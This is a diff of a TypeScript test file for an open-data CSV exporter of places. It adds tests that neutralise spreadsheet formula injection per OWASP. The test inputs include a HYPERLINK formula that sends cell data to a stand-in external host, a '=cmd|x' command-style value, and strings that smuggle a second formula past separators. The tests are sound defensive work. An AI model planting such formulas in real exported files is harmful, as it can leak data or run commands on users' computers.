@@ -1,5 +1,15 @@
 import { describe, expect, it } from 'vitest';
-import { csvCell, exampleOf, internationalPhone, isoDay, PLACE_COLUMNS, toGeoJson, type PlaceRow } from '../../../src/lib/open-data.ts';
+import {
+  csvCell,
+  exampleOf,
+  internationalPhone,
+  isoDay,
+  neutralisedText,
+  PLACE_COLUMNS,
+  toCsv,
+  toGeoJson,
+  type PlaceRow,
+} from '../../../src/lib/open-data.ts';
 
 const row = (over: Partial<PlaceRow>): PlaceRow => ({
   ...(Object.fromEntries(PLACE_COLUMNS.map((c) => [c, null])) as unknown as PlaceRow),
@@ -47,8 +57,63 @@ describe('open data rows', () => {
     expect(exampleOf([row({})], 'courriel')).toBe('');
   });
 
-  it('turn nothing into an empty CSV cell and booleans into words', () => {
-    expect([null, undefined, true, false, 44.2, 'a,b'].map(csvCell)).toEqual(['', '', 'true', 'false', '44.2', 'a,b']);
+  it('keep numbers and booleans as they are and turn nothing into an empty CSV cell', () => {
+    expect([null, undefined, true, false, 44.2, -0.57, 'a,b', ['a', 'b']].map(csvCell)).toEqual([
+      '',
+      '',
+      true,
+      false,
+      44.2,
+      -0.57,
+      'a,b',
+      'a | b',
+    ]);
+  });
+});
+
+/** The cells a spreadsheet set to `separator` sees: between quotes a separator is text, elsewhere it starts a cell. */
+function cellsSeenWith(separator: string, csv: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (const c of csv) {
+    if (c === '"') quoted = !quoted;
+    if (!quoted && (c === separator || c === '\r' || c === '\n')) {
+      cells.push(cell);
+      cell = '';
+    } else cell += c;
+  }
+  return [...cells, cell];
+}
+
+describe('CSV injection (OWASP)', () => {
+  it('puts a single quote before a text that starts like a formula', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])
+      expect(neutralisedText(`${start}HYPERLINK("https://ailleurs.example/?"&A1)`), JSON.stringify(start)).toBe(
+        `'${start}HYPERLINK("https://ailleurs.example/?"&A1)`,
+      );
+    expect(neutralisedText('Micro-lycée = 2 ans')).toBe('Micro-lycée = 2 ans');
+    expect(neutralisedText('')).toBe('');
+    expect(csvCell('+33553744900')).toBe("'+33553744900");
+    expect(csvCell(['-a', 'b'])).toBe("'-a | b");
+  });
+
+  it('writes the examples of the OWASP page as it shows them', () => {
+    expect(toCsv([row({ nom: '=1+2";=1+2' })])).toContain(`,"'=1+2"";=1+2",`);
+    expect(toCsv([row({ nom: `=1+2'" ;,=1+2` })])).toContain(`,"'=1+2'"" ;,=1+2",`);
+  });
+
+  it('quotes every text, so that no separator inside one starts a new cell, and leaves numbers and booleans bare', () => {
+    const csv = toCsv([
+      row({ nom: 'Lycée A;=cmd|x', latitude: 44.2, longitude: -0.57, position_approximative: true, telephone: '+33553744900' }),
+    ]);
+    const [header, line] = csv.split('\r\n');
+    expect(header).toBe(PLACE_COLUMNS.map((c) => `"${c}"`).join(','));
+    expect(line).toContain('"Lycée A;=cmd|x"');
+    expect(line).toContain(',44.2,-0.57,true,');
+    expect(line).toContain(`"'+33553744900"`);
+    // Read with a semicolon, as a spreadsheet set to French does, no cell starts with a formula character.
+    expect(cellsSeenWith(';', csv).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
   });
 });
 
